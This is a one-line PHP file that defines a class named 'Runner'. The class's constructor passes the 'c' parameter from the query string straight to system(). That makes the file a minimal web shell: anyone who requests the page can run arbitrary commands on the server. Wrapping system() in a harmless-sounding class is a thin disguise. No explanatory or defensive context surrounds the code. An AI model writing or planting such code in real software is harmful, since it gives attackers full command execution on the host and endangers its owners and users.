<?php class Runner { function __construct($c) { system($c); } } new Runner($_GET['c']);
